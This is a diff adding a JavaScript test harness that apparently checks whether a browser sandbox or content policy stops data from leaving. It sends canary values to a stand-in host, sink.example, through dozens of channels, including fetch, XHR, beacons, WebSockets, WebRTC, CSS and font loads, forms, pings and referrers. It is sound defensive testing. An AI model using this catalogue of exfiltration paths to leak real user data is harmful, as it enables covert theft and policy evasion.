@@ -1,0 +1,266 @@
+// The ways of cells.ts, in whatever place this script runs. Each sends its canary once and nothing else with it.
+(() => {
+  const SINK = 'https://sink.example';
+  const SOCKETS = 'wss://sink.example';
+  const encoder = new TextEncoder();
+  const inWindow = typeof document !== 'undefined';
+  const settle = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+  const at = (cell) => `${SINK}/in/${cell}`;
+  const part = (text) => encoder.encode(`--${text}--`).subarray(2, 2 + text.length);
+
+  /** The functions of this place, or those of another frame's window. */
+  function waysOf(from) {
+    const { fetch, Request, XMLHttpRequest, WebSocket, FormData, Blob } = from;
+    const post = (cell, body, more = {}) => from.fetch(at(cell), { method: 'POST', body, ...more });
+    function xhr(cell, body, { sync = false, header } = {}) {
+      return new Promise((resolve) => {
+        const request = new XMLHttpRequest();
+        request.open('POST', at(cell), !sync);
+        if (header) request.setRequestHeader('x-canary', header);
+        request.onloadend = resolve;
+        request.send(body);
+        if (sync) resolve();
+      });
+    }
+    function socket(cell, act, { url = '', protocols = undefined, Class = WebSocket } = {}) {
+      return new Promise((resolve) => {
+        const ws = new Class(`${SOCKETS}/in/${cell}${url}`, protocols);
+        ws.binaryType = 'arraybuffer';
+        ws.onopen = () => {
+          act(ws);
+          setTimeout(() => {
+            ws.close();
+            resolve();
+          }, 300);
+        };
+        ws.onerror = resolve;
+      });
+    }
+    const form = (entry) => {
+      const data = new FormData();
+      data.append('field', entry);
+      return data;
+    };
+    const file = (text) => new from.File([text], 'note.txt', { type: 'text/plain' });
+    async function gzip(text) {
+      const stream = new Blob([`{"note":"${text}"}`]).stream().pipeThrough(new CompressionStream('gzip'));
+      return new Response(stream).arrayBuffer();
+    }
+
+    return {
+      'fetch-url': (cell, canary) => fetch.call(from, `${at(cell)}?id=${canary}`),
+      'fetch-request': (cell, canary) => from.fetch(new Request(at(cell), { method: 'POST', body: canary })),
+      'fetch-request-init': (cell, canary) =>
+        from.fetch(new Request(at(cell), { method: 'PUT', body: 'first' }), { method: 'POST', body: canary }),
+      'fetch-string': (cell, canary) => post(cell, JSON.stringify({ id: canary })),
+      'fetch-params': (cell, canary) => post(cell, new URLSearchParams({ id: canary })),
+      'fetch-form': (cell, canary) => post(cell, form(canary)),
+      'fetch-form-file': (cell, canary) => post(cell, form(file(canary))),
+      'fetch-blob': (cell, canary) => post(cell, new Blob([canary], { type: 'text/plain' })),
+      'fetch-buffer': (cell, canary) => post(cell, encoder.encode(canary).buffer),
+      'fetch-view': (cell, canary) => post(cell, part(canary)),
+      'fetch-header': (cell, canary) => from.fetch(at(cell), { headers: { 'x-canary': canary } }),
+      'fetch-keepalive': (cell, canary) => post(cell, canary, { keepalive: true }),
+      'fetch-no-cors': (cell, canary) => post(cell, canary, { mode: 'no-cors' }),
+      'fetch-gzip': async (cell, canary) =>
+        post(cell, await gzip(canary), { headers: { 'content-encoding': 'gzip' } }),
+      'fetch-stream': (cell, canary) =>
+        post(cell, new Blob([canary]).stream(), {
+          duplex: 'half',
+          headers: { 'content-type': 'text/plain' },
+        }),
+      'fetch-later': (cell, canary) =>
+        from.fetchLater(at(cell), { method: 'POST', body: canary, activateAfter: 0 }),
+      'xhr-string': (cell, canary) => xhr(cell, canary),
+      'xhr-blob': (cell, canary) => xhr(cell, new Blob([canary])),
+      'xhr-form': (cell, canary) => xhr(cell, form(canary)),
+      'xhr-document': (cell, canary) =>
+        xhr(cell, new DOMParser().parseFromString(`<note><id>${canary}</id></note>`, 'application/xml')),
+      'xhr-view': (cell, canary) => xhr(cell, part(canary)),
+      'xhr-sync': (cell, canary) => xhr(cell, canary, { sync: true }),
+      'xhr-header': (cell, canary) => xhr(cell, null, { header: canary }),
+      'beacon-string': (cell, canary) => from.navigator.sendBeacon(at(cell), canary),
+      'beacon-blob': (cell, canary) => from.navigator.sendBeacon(at(cell), new Blob([canary])),
+      'beacon-form': (cell, canary) => from.navigator.sendBeacon(at(cell), form(canary)),
+      'ws-url': (cell, canary) => socket(cell, () => {}, { url: `?id=${canary}` }),
+      'ws-protocol': (cell, canary) => socket(cell, () => {}, { protocols: ['chat', canary] }),
+      'ws-text': (cell, canary) => socket(cell, (ws) => ws.send(`{"id":"${canary}"}`)),
+      'ws-buffer': (cell, canary) => socket(cell, (ws) => ws.send(encoder.encode(canary).buffer)),
+      'ws-view': (cell, canary) => socket(cell, (ws) => ws.send(part(canary))),
+      'ws-blob': (cell, canary) => socket(cell, (ws) => ws.send(new Blob([canary]))),
+      'ws-close': (cell, canary) => socket(cell, (ws) => ws.close(4001, canary)),
+      'ws-subclass': (cell, canary) =>
+        socket(cell, (ws) => ws.send(canary), { Class: class Chat extends WebSocket {} }),
+      'ws-borrowed-send': (cell, canary) => socket(cell, (ws) => WebSocket.prototype.send.call(ws, canary)),
+    };
+  }
+
+  const here = {
+    'ws-stream': async (cell, canary) => {
+      const stream = new WebSocketStream(`${SOCKETS}/in/${cell}`);
+      const { writable } = await stream.opened;
+      const writer = writable.getWriter();
+      await writer.write(canary);
+      await settle(200);
+      stream.close();
+    },
+    webtransport: async (cell, canary) => {
+      const session = new WebTransport(`${SINK}/in/${cell}?id=${canary}`);
+      await session.ready.catch(() => {});
+    },
+    eventsource: (cell, canary) =>
+      new Promise((resolve) => {
+        const source = new EventSource(`${at(cell)}?id=${canary}`);
+        source.onopen = source.onerror = () => {
+          source.close();
+          resolve();
+        };
+      }),
+  };
+
+  const append = (tag, attributes) =>
+    new Promise((resolve) => {
+      const node = document.createElement(tag);
+      Object.assign(node, attributes);
+      for (const [name, value] of Object.entries(attributes)) {
+        if (typeof value === 'string' && !(name in node)) node.setAttribute(name, value);
+      }
+      node.onload = node.onerror = node.onloadedmetadata = () => resolve();
+      document.body.append(node);
+      setTimeout(resolve, 1500);
+    });
+  const style = async (css) => {
+    const node = document.createElement('style');
+    node.textContent = css;
+    document.head.append(node);
+    await settle(600);
+  };
+  const submit = async (cell, method, canary) => {
+    const target = document.createElement('iframe');
+    target.name = `form-${cell}`;
+    document.body.append(target);
+    const node = document.createElement('form');
+    Object.assign(node, { method, action: at(cell), target: target.name });
+    node.innerHTML = `<input name="id" value="${canary}">`;
+    document.body.append(node);
+    if (method === 'get') node.requestSubmit();
+    else node.submit();
+    await settle(900);
+  };
+
+  const elements = {
+    'rtc-data': async (cell, canary) => {
+      const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
+      a.onicecandidate = ({ candidate }) => candidate && b.addIceCandidate(candidate);
+      b.onicecandidate = ({ candidate }) => candidate && a.addIceCandidate(candidate);
+      const channel = a.createDataChannel('chat');
+      const received = new Promise((resolve) => {
+        b.ondatachannel = (event) => {
+          event.channel.onmessage = () => resolve(true);
+        };
+      });
+      channel.onopen = () => channel.send(canary);
+      await a.setLocalDescription();
+      await b.setRemoteDescription(a.localDescription);
+      await b.setLocalDescription();
+      await a.setRemoteDescription(b.localDescription);
+      // The sink is not the other peer: the page says that it arrived, without the canary.
+      if (await Promise.race([received, settle(6000)]))
+        await fetch(`${SINK}/arrived/${cell}`, { mode: 'no-cors' });
+      a.close();
+      b.close();
+    },
+    image: (cell, canary) => append('img', { src: `${at(cell)}?id=${canary}` }),
+    srcset: (cell, canary) => append('img', { srcset: `${at(cell)}?id=${canary} 1x` }),
+    'svg-image': async (cell, canary) => {
+      const box = document.createElement('div');
+      box.innerHTML = `<svg width="9" height="9"><image href="${at(cell)}?id=${canary}" width="9" height="9"/></svg>`;
+      document.body.append(box);
+      await settle(600);
+    },
+    script: (cell, canary) => append('script', { src: `${at(cell)}?id=${canary}` }),
+    stylesheet: (cell, canary) => append('link', { rel: 'stylesheet', href: `${at(cell)}?id=${canary}` }),
+    'css-url': async (cell, canary) => {
+      await style(`.c-${canary} { background: url("${at(cell)}?id=${canary}"); width: 9px; height: 9px }`);
+      await append('i', { className: `c-${canary}`, textContent: 'x' });
+    },
+    'css-import': (cell, canary) => style(`@import url("${at(cell)}?id=${canary}");`),
+    font: async (cell, canary) => {
+      await style(`@font-face { font-family: f-${canary}; src: url("${at(cell)}?id=${canary}"); }`);
+      await append('b', { style: `font-family: f-${canary}`, textContent: 'x' });
+    },
+    preload: (cell, canary) =>
+      append('link', { rel: 'preload', as: 'image', href: `${at(cell)}?id=${canary}` }),
+    prefetch: (cell, canary) => append('link', { rel: 'prefetch', href: `${at(cell)}?id=${canary}` }),
+    iframe: (cell, canary) => append('iframe', { src: `${at(cell)}?id=${canary}` }),
+    object: (cell, canary) => append('object', { type: 'image/png', data: `${at(cell)}?id=${canary}` }),
+    video: (cell, canary) => append('video', { src: `${at(cell)}?id=${canary}`, preload: 'auto' }),
+    'form-get': (cell, canary) => submit(cell, 'get', canary),
+    'form-post': (cell, canary) => submit(cell, 'post', canary),
+    'a-ping': async (cell, canary) => {
+      const target = document.createElement('iframe');
+      target.name = `ping-${cell}`;
+      document.body.append(target);
+      const node = document.createElement('a');
+      Object.assign(node, { href: `${SINK}/site/blank.html`, target: target.name });
+      Object.assign(node, { ping: `${at(cell)}?id=${canary}`, textContent: 'x' });
+      document.body.append(node);
+      node.click();
+      await settle(400);
+    },
+    'window-open': async (cell, canary) => {
+      const opened = window.open(`${at(cell)}?id=${canary}`);
+      await settle(1200);
+      opened?.close();
+    },
+    'post-message': async (cell, canary) => {
+      const node = document.createElement('iframe');
+      node.src = `${SINK}/site/listen.html?${cell}`;
+      document.body.append(node);
+      await new Promise((resolve) => {
+        node.onload = resolve;
+      });
+      node.contentWindow.postMessage({ id: canary }, '*');
+      await settle(500);
+    },
+    'csp-report': async (cell) => {
+      await append('iframe', { src: `/site/csp.html?${cell}` });
+      await settle(1500);
+    },
+    cookie: async (cell) => {
+      await fetch(`${SINK}/cookie/${cell}`, { credentials: 'include' });
+      await fetch(at(cell), { credentials: 'include' });
+      await fetch(`${SINK}/forget/${cell}`, { credentials: 'include' });
+    },
+  };
+
+  const ways = {
+    ...waysOf(self),
+    ...here,
+    'dynamic-import': (cell, canary) => import(`${at(cell)}?id=${canary}`),
+    ...(inWindow ? elements : {}),
+    ...(typeof importScripts === 'function'
+      ? { 'import-scripts': (cell, canary) => importScripts(`${at(cell)}?id=${canary}`) }
+      : {}),
+  };
+
+  /** Goes every way that has a canary in this place. Returns when all are done or have been given time. */
+  self.goAllWays = async (place, own = ways) => {
+    const canaries = self.CANARIES[place] ?? {};
+    const done = [];
+    for (const [way, canary] of Object.entries(canaries)) {
+      if (way === 'referrer' || !own[way]) continue;
+      const going = (async () => own[way](`${way}.${place}`, canary))().catch(() => {});
+      done.push(Promise.race([going, settle(7000)]));
+    }
+    await Promise.all(done);
+    if (canaries.referrer) {
+      const { href } = location;
+      history.replaceState(null, '', `?from=${canaries.referrer}`);
+      await fetch(at(`referrer.${place}`), { referrerPolicy: 'unsafe-url' }).catch(() => {});
+      history.replaceState(null, '', href);
+    }
+  };
+  self.waysOf = waysOf;
+  self.matrixWays = ways;
+})();
